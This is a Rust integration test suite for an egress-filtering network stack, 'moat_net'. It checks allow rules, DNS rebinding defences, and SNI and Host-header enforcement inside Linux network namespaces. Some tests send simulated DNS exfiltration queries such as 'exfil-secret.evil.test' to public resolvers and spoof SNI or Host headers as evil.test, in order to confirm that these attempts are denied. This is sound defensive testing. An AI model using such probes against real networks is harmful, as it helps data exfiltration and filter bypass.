//! The stack with a real guest: a network namespace whose TAP device's frames are relayed in
//! QEMU's stream framing to the stack, so the Linux kernel, `curl` and Python in that namespace
//! are the guest. The stack itself, its test servers and its test upstream resolver run in a
//! second namespace (their "host"), so servers can listen on 80/443 and nothing touches the
//! machine's own network. Needs root (`ip netns`), `ip`, `curl` and `python3`.

use std::collections::HashMap;
use std::fs::File;
use std::io::{Read, Write};
use std::net::Ipv4Addr;
use std::os::fd::AsRawFd;
use std::os::unix::net::UnixStream;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hickory_proto::op::{Message, OpCode, ResponseCode};
use hickory_proto::rr::{RData, Record};
use moat_net::audit::{Audit, Event, Kind, Verdict};
use moat_net::dns::Resolver;
use moat_net::peek::{client_hello_sni, Peek};
use moat_net::stack::{self, Limits};
use moat_net::{EgressSpec, Floor, HostsFile, Policy};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::watch;

static SEQ: AtomicUsize = AtomicUsize::new(0);

fn sh(args: &[&str]) -> Output {
    let out = Command::new(args[0]).args(&args[1..]).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// Enters the named network namespace on this thread.
fn enter(ns: &str) {
    let f = File::open(format!("/run/netns/{ns}")).unwrap();
    nix::sched::setns(f, nix::sched::CloneFlags::CLONE_NEWNET).unwrap();
}

#[repr(C)]
struct IfReq {
    name: [u8; 16],
    flags: libc::c_short,
    _pad: [u8; 22],
}

/// Opens tap0 in `ns` (the fd stays bound to it after the thread leaves).
fn open_tap(ns: &str) -> File {
    let ns = ns.to_string();
    std::thread::spawn(move || {
        enter(&ns);
        let f = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .open("/dev/net/tun")
            .unwrap();
        let mut req = IfReq {
            name: [0; 16],
            flags: (libc::IFF_TAP | libc::IFF_NO_PI) as libc::c_short,
            _pad: [0; 22],
        };
        req.name[..4].copy_from_slice(b"tap0");
        const TUNSETIFF: libc::c_ulong = 0x4004_54ca;
        // SAFETY: `req` is a valid ifreq for TUNSETIFF and outlives the call.
        let r = unsafe { libc::ioctl(f.as_raw_fd(), TUNSETIFF, &mut req) };
        assert_eq!(r, 0, "TUNSETIFF: {}", std::io::Error::last_os_error());
        f
    })
    .join()
    .unwrap()
}

/// Copies frames between the tap and QEMU-style stream framing, as QEMU would.
fn relay(tap: File, sock: UnixStream) {
    let mut tap_r = tap.try_clone().unwrap();
    let mut sock_w = sock.try_clone().unwrap();
    std::thread::spawn(move || {
        let mut buf = vec![0u8; 65536];
        while let Ok(n) = tap_r.read(&mut buf) {
            if n == 0
                || sock_w.write_all(&(n as u32).to_be_bytes()).is_err()
                || sock_w.write_all(&buf[..n]).is_err()
            {
                break;
            }
        }
    });
    let mut tap_w = tap;
    let mut sock_r = sock;
    std::thread::spawn(move || {
        let mut len = [0u8; 4];
        let mut buf = vec![0u8; 65536];
        while sock_r.read_exact(&mut len).is_ok() {
            let n = u32::from_be_bytes(len) as usize;
            if sock_r.read_exact(&mut buf[..n]).is_err() || tap_w.write_all(&buf[..n]).is_err() {
                break;
            }
        }
    });
}

/// What the host side saw.
#[derive(Default)]
struct Seen {
    events: Vec<Event>,
    upstream: Vec<String>,
    /// First bytes each test server received, by port.
    servers: HashMap<u16, Vec<Vec<u8>>>,
}

struct Net {
    guest: String,
    seen: Arc<Mutex<Seen>>,
    policy: watch::Sender<Arc<Policy>>,
    _cleanup: Cleanup,
}

/// Removes both namespaces, however the test ends.
struct Cleanup(String, String);

const HOSTS: &str = "127.0.0.1 api.test x.api2.test blocked.api2.test\n";
/// A public-looking address of the host namespace, reached through a CIDR rule.
const CIDR_SERVER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);

fn policy(v: serde_json::Value) -> Arc<Policy> {
    Arc::new(Policy::new(serde_json::from_value::<EgressSpec>(v).unwrap()).unwrap())
}

fn default_policy() -> Arc<Policy> {
    policy(serde_json::json!({"rules": [
        {"host": "blocked.api2.test", "action": "deny"},
        {"host": "*.api2.test"},
        {"host": "api.test"},
        {"host": "rebind.test"},
        {"host": "private.test"},
        {"cidr": "198.51.100.0/24", "ports": [7000]},
    ]}))
}

impl Net {
    fn new() -> Net {
        let n = SEQ.fetch_add(1, Ordering::Relaxed);
        let id = format!("{}-{n}", std::process::id());
        let (guest, host) = (format!("mng-{id}"), format!("mnh-{id}"));
        let cleanup = Cleanup(guest.clone(), host.clone());
        sh(&["ip", "netns", "add", &guest]);
        sh(&["ip", "netns", "add", &host]);
        std::fs::create_dir_all(format!("/etc/netns/{guest}")).unwrap();
        std::fs::write(
            format!("/etc/netns/{guest}/resolv.conf"),
            "nameserver 100.127.255.1\n",
        )
        .unwrap();
        sh(&["ip", "-n", &host, "link", "set", "lo", "up"]);
        sh(&[
            "ip",
            "-n",
            &host,
            "addr",
            "add",
            "198.51.100.1/32",
            "dev",
            "lo",
        ]);
        sh(&[
            "ip", "-n", &guest, "tuntap", "add", "dev", "tap0", "mode", "tap",
        ]);
        let tap = open_tap(&guest);
        sh(&["ip", "-n", &guest, "link", "set", "lo", "up"]);
        sh(&[
            "ip",
            "-n",
            &guest,
            "addr",
            "add",
            "100.127.255.2/30",
            "dev",
            "tap0",
        ]);
        sh(&["ip", "-n", &guest, "link", "set", "tap0", "up"]);
        sh(&[
            "ip",
            "-n",
            &guest,
            "route",
            "add",
            "default",
            "via",
            "100.127.255.1",
        ]);
        let (ours, theirs) = UnixStream::pair().unwrap();
        relay(tap, ours);

        let seen = Arc::new(Mutex::new(Seen::default()));
        let (policy_tx, policy_rx) = watch::channel(default_policy());
        let (ready_tx, ready_rx) = std::sync::mpsc::channel();
        let (s, hostns) = (seen.clone(), host.clone());
        std::thread::spawn(move || {
            enter(&hostns);
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async move {
                start_servers(s.clone()).await;
                let upstream = start_upstream(s.clone()).await;
                // The floor as the host namespace has it, less the CIDR server's address (a
                // stand-in for a public server).
                let floor = Floor::new(vec!["127.0.0.1".parse().unwrap()]);
                let resolver = Arc::new(Resolver::new(
                    Some(upstream),
                    HostsFile::parse(HOSTS).unwrap(),
                    floor,
                ));
                let (audit, mut events) = Audit::channel(1024);
                let s2 = s.clone();
                tokio::spawn(async move {
                    while let Some(e) = events.recv().await {
                        s2.lock().unwrap().events.push(e);
                    }
                });
                theirs.set_nonblocking(true).unwrap();
                let sock = tokio::net::UnixStream::from_std(theirs).unwrap();
                ready_tx.send(()).unwrap();
                let limits = Limits {
                    max_flows: 64,
                    new_flows_per_s: 1000,
                    dns_qps: 1000,
                };
                let _ = stack::serve(sock, resolver, policy_rx, audit, limits).await;
            });
        });
        ready_rx.recv().unwrap();
        Net {
            guest,
            seen,
            policy: policy_tx,
            _cleanup: cleanup,
        }
    }

    /// Runs a command in the guest namespace.
    fn guest(&self, args: &[&str]) -> Output {
        let mut full = vec!["netns", "exec", &self.guest];
        full.extend_from_slice(args);
        Command::new("ip").args(&full).output().unwrap()
    }

    fn curl(&self, args: &[&str]) -> (bool, String) {
        let mut a = vec!["curl", "-sS", "-m", "5"];
        a.extend_from_slice(args);
        let out = self.guest(&a);
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        (out.status.success(), text)
    }

    fn python(&self, code: &str) -> String {
        let out = self.guest(&["python3", "-c", code]);
        assert!(
            out.status.success(),
            "python: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    /// Asks `server` (UDP, or TCP when `tcp`) for `name`/`qtype` from the guest; returns
    /// (rcode, answer count).
    fn dig(&self, server: &str, name: &str, qtype: u16, tcp: bool) -> (u8, u16) {
        let code = format!(
            r#"
import socket, struct
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
for l in '{name}'.split('.'):
    q += bytes([len(l)]) + l.encode()
q += b'\0' + struct.pack('>HH', {qtype}, 1)
if {tcp}:
    s = socket.create_connection(('{server}', 53), timeout=5)
    s.sendall(struct.pack('>H', len(q)) + q)
    n = struct.unpack('>H', s.recv(2))[0]
    r = b''
    while len(r) < n:
        r += s.recv(n - len(r))
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, ('{server}', 53))
    r = s.recv(4096)
print(r[3] & 15, struct.unpack('>H', r[6:8])[0])
"#,
            tcp = if tcp { "True" } else { "False" }
        );
        let out = self.python(&code);
        let mut it = out.split_whitespace().map(|w| w.parse::<u16>().unwrap());
        (it.next().unwrap() as u8, it.next().unwrap())
    }

    /// Waits up to 3 s for an audit event that satisfies `f`.
    fn event(&self, what: &str, f: impl Fn(&Event) -> bool) -> Event {
        let deadline = Instant::now() + Duration::from_secs(3);
        loop {
            if let Some(e) = self.seen.lock().unwrap().events.iter().find(|e| f(e)) {
                return e.clone();
            }
            assert!(
                Instant::now() < deadline,
                "no audit event {what}: {:#?}",
                self.seen.lock().unwrap().events
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn upstream_asked(&self) -> Vec<String> {
        self.seen.lock().unwrap().upstream.clone()
    }

    fn server_saw(&self, port: u16) -> Vec<Vec<u8>> {
        self.seen
            .lock()
            .unwrap()
            .servers
            .get(&port)
            .cloned()
            .unwrap_or_default()
    }
}

impl Drop for Cleanup {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
        let _ = Command::new("ip").args(["netns", "del", &self.1]).status();
        let _ = std::fs::remove_dir_all(format!("/etc/netns/{}", self.0));
    }
}

/// Test servers in the host namespace: HTTP on 127.0.0.1:80, a recorder on 443 that answers
/// nothing TLS, a server-first banner on 5432 and on the CIDR address's 7000.
async fn start_servers(seen: Arc<Mutex<Seen>>) {
    for (addr, port) in [
        (Ipv4Addr::LOCALHOST, 80u16),
        (Ipv4Addr::LOCALHOST, 443),
        (Ipv4Addr::LOCALHOST, 5432),
        (CIDR_SERVER, 7000),
    ] {
        let l = tokio::net::TcpListener::bind((addr, port)).await.unwrap();
        let seen = seen.clone();
        tokio::spawn(async move {
            loop {
                let (mut s, _) = l.accept().await.unwrap();
                let seen = seen.clone();
                tokio::spawn(async move {
                    if port == 5432 || port == 7000 {
                        // Server speaks first, then echoes.
                        s.write_all(b"HELLO\n").await.unwrap();
                        seen.lock()
                            .unwrap()
                            .servers
                            .entry(port)
                            .or_default()
                            .push(Vec::new());
                        let mut buf = vec![0u8; 65536];
                        while let Ok(n) = s.read(&mut buf).await {
                            if n == 0 || s.write_all(&buf[..n]).await.is_err() {
                                break;
                            }
                        }
                        return;
                    }
                    let mut buf = vec![0u8; 65536];
                    let mut got = Vec::new();
                    while !got.windows(4).any(|w| w == b"\r\n\r\n") && got.len() < 65536 {
                        let n = s.read(&mut buf).await.unwrap_or(0);
                        if n == 0 {
                            break;
                        }
                        got.extend_from_slice(&buf[..n]);
                        if port == 443 {
                            break;
                        }
                    }
                    seen.lock()
                        .unwrap()
                        .servers
                        .entry(port)
                        .or_default()
                        .push(got.clone());
                    if port == 80 {
                        let head = String::from_utf8_lossy(&got).to_string();
                        let len: usize = head
                            .lines()
                            .find_map(|l| {
                                l.to_ascii_lowercase()
                                    .strip_prefix("content-length:")
                                    .map(|v| v.trim().parse().unwrap())
                            })
                            .unwrap_or(0);
                        let body_start = got.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
                        let mut body = got.len() - body_start;
                        while body < len {
                            let n = s.read(&mut buf).await.unwrap();
                            assert!(n > 0);
                            body += n;
                        }
                        let reply = format!("got {body} bytes from the guest");
                        let _ = s
                            .write_all(format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{reply}", reply.len()).as_bytes())
                            .await;
                    }
                });
            }
        });
    }
}

/// The host's upstream resolver: rebind.test answers into the floor, private.test too.
async fn start_upstream(seen: Arc<Mutex<Seen>>) -> std::net::SocketAddr {
    let sock = tokio::net::UdpSocket::bind("127.0.0.1:53").await.unwrap();
    let addr = sock.local_addr().unwrap();
    tokio::spawn(async move {
        let mut buf = vec![0u8; 4096];
        loop {
            let (n, from) = sock.recv_from(&mut buf).await.unwrap();
            let req = Message::from_vec(&buf[..n]).unwrap();
            let q = req.queries[0].clone();
            let name = q.name.to_ascii().trim_end_matches('.').to_string();
            seen.lock().unwrap().upstream.push(name.clone());
            let mut resp = Message::response(req.metadata.id, OpCode::Query);
            resp.add_query(q.clone());
            let addrs: &[Ipv4Addr] = match name.as_str() {
                "rebind.test" => &[Ipv4Addr::LOCALHOST],
                "private.test" => &[
                    Ipv4Addr::new(10, 0, 0, 5),
                    Ipv4Addr::new(169, 254, 169, 254),
                ],
                _ => &[],
            };
            if addrs.is_empty() {
                resp.metadata.response_code = ResponseCode::NXDomain;
            }
            for a in addrs {
                resp.add_answer(Record::from_rdata(
                    q.name.clone(),
                    30,
                    RData::A((*a).into()),
                ));
            }
            let _ = sock.send_to(&resp.to_vec().unwrap(), from).await;
        }
    });
    addr
}

#[test]
fn allowed_names_work_over_http_and_a_server_first_protocol() {
    let net = Net::new();
    let (ok, out) = net.curl(&["http://api.test/hello"]);
    assert!(ok && out.contains("got 0 bytes"), "{out}");
    let e = net.event("allowed http", |e| {
        e.kind == Kind::Tcp && e.port == Some(80) && e.verdict == Verdict::Allow
    });
    assert_eq!(e.name.as_deref(), Some("api.test"));
    assert_eq!(e.rule, Some(2));
    assert_eq!(e.address.as_deref(), Some("127.0.0.1"));
    assert!(e.bytes_received > 0 && e.bytes_sent > 0, "{e:?}");
    let e = net.event("dns answer", |e| {
        e.kind == Kind::Dns
            && e.name.as_deref() == Some("api.test")
            && e.qtype.as_deref() == Some("A")
    });
    assert_eq!(e.verdict, Verdict::Allow);
    assert!(
        net.upstream_asked().is_empty(),
        "the hosts file answered: {:?}",
        net.upstream_asked()
    );

    // A 10 MiB upload.
    let out = net.python(
        "import urllib.request\n\
         r = urllib.request.urlopen(urllib.request.Request('http://api.test/up', data=b'x' * (10 << 20), method='POST'), timeout=20)\n\
         print(r.read().decode())",
    );
    assert_eq!(out, format!("got {} bytes from the guest", 10 << 20));

    // A wildcard rule, and a server-first protocol on another port.
    let out = net.python(
        "import socket\n\
         s = socket.create_connection(('x.api2.test', 5432), timeout=5)\n\
         print(s.recv(6).decode().strip())\n\
         s.sendall(b'ping')\n\
         print(s.recv(4).decode())",
    );
    assert_eq!(out, "HELLO\nping");
    // A CIDR rule for a raw address, on its port only.
    let out = net.python(
        "import socket\n\
         s = socket.create_connection(('198.51.100.1', 7000), timeout=5)\n\
         print(s.recv(6).decode().strip())",
    );
    assert_eq!(out, "HELLO");
}

#[test]
fn tls_passes_through_only_with_the_name_as_sni() {
    let net = Net::new();
    // The test server on 443 is not TLS: curl fails after the server got the ClientHello.
    let (ok, _) = net.curl(&["-k", "https://api.test/"]);
    assert!(!ok);
    let saw = net.server_saw(443);
    assert_eq!(saw.len(), 1, "the upstream got one connection");
    assert_eq!(
        client_hello_sni(&saw[0]),
        Peek::Name("api.test".into()),
        "the guest's own ClientHello, unchanged"
    );

    // SNI of another name on api.test's address: refused with a TLS alert, never dialled.
    let (ok, out) = net.curl(&[
        "-k",
        "--connect-to",
        "evil.test:443:api.test:443",
        "https://evil.test/",
    ]);
    assert!(!ok);
    assert!(
        out.to_lowercase().contains("alert") || out.contains("access denied"),
        "{out}"
    );
    let e = net.event("sni mismatch", |e| {
        e.verdict == Verdict::Deny && e.port == Some(443)
    });
    assert_eq!(e.reason, "TLS server name evil.test is not api.test");
    assert_eq!(
        net.server_saw(443).len(),
        1,
        "the denied flow never reached the server"
    );
}

#[test]
fn host_header_must_be_the_name() {
    let net = Net::new();
    let (ok, out) = net.curl(&["-i", "-H", "Host: evil.test", "http://api.test/"]);
    assert!(ok, "{out}");
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert!(
        out.contains("X-Moat-Deny: HTTP Host evil.test is not api.test"),
        "{out}"
    );
    assert!(net.server_saw(80).is_empty(), "never dialled");
    net.event("host mismatch", |e| {
        e.verdict == Verdict::Deny && e.port == Some(80)
    });
}

#[test]
fn denied_destinations_fail_at_once_and_are_audited() {
    let net = Net::new();
    let t = Instant::now();
    // Unknown name: NXDOMAIN, no upstream query.
    let (ok, out) = net.curl(&["http://unknown.test/"]);
    assert!(!ok && out.contains("resolve"), "{out}");
    // Explicit deny before the wildcard allow.
    let (ok, out) = net.curl(&["http://blocked.api2.test/"]);
    assert!(!ok && out.contains("resolve"), "{out}");
    net.event("explicit deny", |e| {
        e.kind == Kind::Dns && e.name.as_deref() == Some("blocked.api2.test") && e.rule == Some(0)
    });
    // Raw addresses without a CIDR rule, and the CIDR rule's address on another port.
    for url in [
        "http://93.184.216.34/",
        "http://198.51.100.1:7001/",
        "http://100.127.255.1/",
    ] {
        let (ok, out) = net.curl(&[url]);
        assert!(
            !ok && out.contains("Couldn't connect to server"),
            "{url}: {out}"
        );
    }
    net.event("raw ip", |e| {
        e.kind == Kind::Tcp
            && e.address.as_deref() == Some("93.184.216.34")
            && e.verdict == Verdict::Deny
    });
    assert!(
        t.elapsed() < Duration::from_secs(4),
        "denials are immediate: {:?}",
        t.elapsed()
    );
    // Rebinding: the upstream answers in the floor for allowed names.
    for n in ["rebind.test", "private.test"] {
        let (ok, out) = net.curl(&[&format!("http://{n}/")]);
        assert!(!ok && out.contains("resolve"), "{n}: {out}");
        let e = net.event("rebinding", |e| {
            e.kind == Kind::Dns && e.name.as_deref() == Some(n) && e.qtype.as_deref() == Some("A")
        });
        assert!(e.reason.starts_with("rebinding"), "{e:?}");
    }
    let asked = net.upstream_asked();
    assert!(
        !asked
            .iter()
            .any(|n| n.contains("unknown") || n.contains("blocked")),
        "{asked:?}"
    );
    assert!(net.server_saw(80).is_empty());
}

#[test]
fn dns_is_answered_locally_whatever_the_resolver_type_or_transport() {
    let net = Net::new();
    // A query to a public resolver is answered by moat: NXDOMAIN for an unknown name, never
    // sent anywhere.
    assert_eq!(
        net.dig("8.8.8.8", "exfil-secret.evil.test", 1, false),
        (3, 0)
    );
    assert_eq!(
        net.dig("8.8.8.8", "exfil-secret.evil.test", 1, true),
        (3, 0)
    );
    assert_eq!(
        net.dig("100.127.255.1", "exfil.evil.test", 16, false),
        (3, 0),
        "TXT"
    );
    // An allowed name: A answered (with a synthetic address), AAAA/TXT/HTTPS empty.
    assert_eq!(net.dig("8.8.8.8", "api.test", 1, false), (0, 1));
    assert_eq!(net.dig("1.1.1.1", "api.test", 1, true), (0, 1));
    for qtype in [28u16, 16, 65, 64] {
        assert_eq!(
            net.dig("100.127.255.1", "api.test", qtype, false),
            (0, 0),
            "type {qtype}"
        );
    }
    let asked = net.upstream_asked();
    assert!(asked.is_empty(), "nothing was sent upstream: {asked:?}");
    net.event("dns deny", |e| {
        e.kind == Kind::Dns
            && e.name.as_deref() == Some("exfil-secret.evil.test")
            && e.verdict == Verdict::Deny
    });
    // Non-DNS UDP is dropped and audited.
    net.python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('198.51.100.1', 7000))");
    net.event("udp", |e| e.kind == Kind::Udp && e.verdict == Verdict::Deny);
    // IPv6 is not there at all.
    let (ok, _) = net.curl(&["-6", "http://[2001:db8::1]/"]);
    assert!(!ok);
}

#[test]
fn a_policy_update_applies_at_once_and_closes_flows_it_denies() {
    let net = Net::new();
    let guest = net.guest.clone();
    // A long-lived flow to api.test:5432.
    let child = std::thread::spawn(move || {
        let out = Command::new("ip")
            .args(["netns", "exec", &guest, "python3", "-c"])
            .arg(
                "import socket, time\n\
                 s = socket.create_connection(('api.test', 5432), timeout=10)\n\
                 print(s.recv(6).decode().strip(), flush=True)\n\
                 t = time.time()\n\
                 try:\n    r = s.recv(10)\n    print('eof' if r == b'' else r)\n\
                 except ConnectionResetError:\n    print('reset')\n\
                 print(round(time.time() - t, 1))",
            )
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).to_string()
    });
    net.event("long flow dns", |e| {
        e.kind == Kind::Dns && e.name.as_deref() == Some("api.test")
    });
    let deadline = Instant::now() + Duration::from_secs(5);
    while net.server_saw(5432).is_empty() {
        assert!(Instant::now() < deadline);
        std::thread::sleep(Duration::from_millis(20));
    }
    net.policy
        .send(policy(
            serde_json::json!({"rules": [{"host": "*.api2.test"}]}),
        ))
        .unwrap();
    let out = child.join().unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "HELLO");
    assert!(lines[1] == "reset" || lines[1] == "eof", "{out}");
    let waited: f64 = lines[2].parse().unwrap();
    assert!(
        waited < 1.5,
        "the flow was closed {waited} s after it started waiting: {out}"
    );
    let e = net.event("policy update", |e| {
        e.kind == Kind::Tcp && e.port == Some(5432)
    });
    assert_eq!(e.verdict, Verdict::Deny);
    assert!(e.reason.starts_with("policy update"), "{e:?}");
    // New lookups follow the new policy.
    let (ok, _) = net.curl(&["http://api.test/"]);
    assert!(!ok);
}
